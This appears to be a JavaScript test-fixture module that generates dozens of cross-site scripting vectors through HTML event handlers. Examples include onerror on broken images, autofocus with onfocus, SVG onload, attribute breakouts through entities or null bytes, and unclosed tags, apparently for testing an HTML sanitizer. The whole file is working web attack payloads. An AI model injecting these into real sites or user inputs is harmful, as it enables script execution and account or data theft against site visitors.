import { entities, vectors } from './vector';

const closed = vectors('handler', {
  'broken picture': (js) => `<img src="/none" onerror="${js}">`,
  'our own picture': (js) => `<img src="/download/none.jpg" onload="${js}" onerror="${js}">`,
  'upper case': (js) => `<IMG SRC="/none" ONERROR="${js}">`,
  'no quotes': (js) => `<img src=/none onerror=${js}>`,
  'single quotes': (js) => `<img src='/none' onerror='${js}'>`,
  backticks: (js) => `<img src=\`/none\` onerror=\`${js}\`>`,
  'a slash for a space': (js) => `<img/src="/none"/onerror="${js}">`,
  'a line break for a space': (js) => `<img src="/none"\nonerror\n=\n"${js}">`,
  'a form feed for a space': (js) => `<img src="/none"\fonerror="${js}">`,
  'a zero byte in its name': (js) => `<img src="/none" on\u0000error="${js}">`,
  'entities in its value': (js) => `<img src="/none" onerror="${entities(js)}">`,
  'breaking out of a title': (js) => `<img src="/none" title='"' onerror="${js}">`,
  'breaking out by an entity': (js) => `<a title="&quot; onmouseover=&quot;${js}">a</a>`,
  'breaking out of an alt text': (js) =>
    `<img src="/download/none.jpg" alt="x&quot; onerror=&quot;${js}&quot;">`,
  'breaking out of a language': (js) => `<p lang="en&quot; onclick=&quot;${js}">a</p>`,
  'a bracket in a title': (js) => `<a title="><img src=/none onerror=${js}>">a</a>`,
  'given twice': (js) => `<img src="/none" onerror="" onerror="${js}">`,
  'an odd name before it': (js) => `<img src="/none" "onerror="${js}" onerror="${js}">`,
  'an equals sign before it': (js) => `<img src="/none" ="x" onerror="${js}">`,
  'on a paragraph': (js) => `<p onclick="${js}" onmouseover="${js}" onpointerenter="${js}">a</p>`,
  'on a link': (js) => `<a href="#a" onclick="${js}" onfocus="${js}" autofocus>a</a>`,
  'on a focused box': (js) => `<div tabindex="0" autofocus onfocus="${js}">a</div>`,
  'on an edited box': (js) => `<div contenteditable oninput="${js}" onblur="${js}">a</div>`,
  'on a body': (js) => `<body onload="${js}" onpageshow="${js}" onhashchange="${js}">a</body>`,
  'on a page': (js) => `<html onmouseover="${js}"><head></head>a</html>`,
  'on a frame': (js) => `<iframe src="/none" onload="${js}"></iframe>`,
  'on a frame set': (js) => `<frameset onload="${js}"><frame></frameset>`,
  'on an object': (js) => `<object data="/none" onerror="${js}" onload="${js}"></object>`,
  'on an embedding': (js) => `<embed src="/none" onload="${js}" onerror="${js}">`,
  'on a film': (js) => `<video onerror="${js}" onloadstart="${js}"><source src="/none"></video>`,
  'on a film of ours': (js) => `<video src="/video/none.mp4" autoplay onerror="${js}"></video>`,
  'on a source': (js) => `<video><source src="/none" onerror="${js}"></video>`,
  'on a sound': (js) => `<audio src="/none" autoplay onerror="${js}"></audio>`,
  'on a track': (js) =>
    `<video src="/video/none.mp4"><track default src="/video/none.vtt" onerror="${js}"></video>`,
  'on details': (js) => `<details open ontoggle="${js}"><summary>a</summary>b</details>`,
  'on a pop-over': (js) => `<div popover onbeforetoggle="${js}" ontoggle="${js}">a</div>`,
  'on a moving text': (js) => `<marquee onstart="${js}" onfinish="${js}" loop="1">a</marquee>`,
  'on a field': (js) => `<input autofocus onfocus="${js}">`,
  'on a choice': (js) => `<select autofocus onfocus="${js}"><option>a</option></select>`,
  'on an area of text': (js) => `<textarea autofocus onfocus="${js}"></textarea>`,
  'on a key': (js) => `<keygen autofocus onfocus="${js}">`,
  'on a form': (js) => `<form onsubmit="${js}" onformdata="${js}"><button>a</button></form>`,
  'on an animation': (js) =>
    `<style>@keyframes x{}</style><p style="animation:x 1s" onanimationstart="${js}">a</p>`,
  'on a transition': (js) => `<p style="transition:color 1s" ontransitionend="${js}">a</p>`,
  'on what comes into view': (js) =>
    `<p style="content-visibility:auto" oncontentvisibilityautostatechange="${js}">a</p>`,
  'on scrolling': (js) => `<div onscroll="${js}" onscrollend="${js}" onwheel="${js}">a</div>`,
  'on a drawing': (js) => `<svg onload="${js}"><g onload="${js}"></g></svg>`,
  'on a drawing that closes itself': (js) => `<svg/onload="${js}"/>`,
  'on an animated drawing': (js) =>
    `<svg><animate onbegin="${js}" onend="${js}" attributeName="x" dur="1s"></animate></svg>`,
  'on a formula': (js) => `<math><mi onclick="${js}">a</mi></math>`,
  'on an unknown element': (js) =>
    `<x onclick="${js}" tabindex="1" onfocus="${js}" autofocus>a</x>`,
  'on an end tag': (js) => `</p onclick="${js}"><p>a</p onclick="${js}">`,
});

const open = vectors(
  'handler',
  {
    'unclosed tag': (js) => `<img src="/none" onerror="${js}"`,
    'unclosed quote': (js) => `<img src="/none" onerror="${js}//`,
    'unclosed drawing': (js) => `<svg onload="${js}"`,
    'a title that swallows': (js) => `<p title="<img src=/none onerror=${js}>`,
  },
  true,
);

export const HANDLERS = [...closed, ...open];
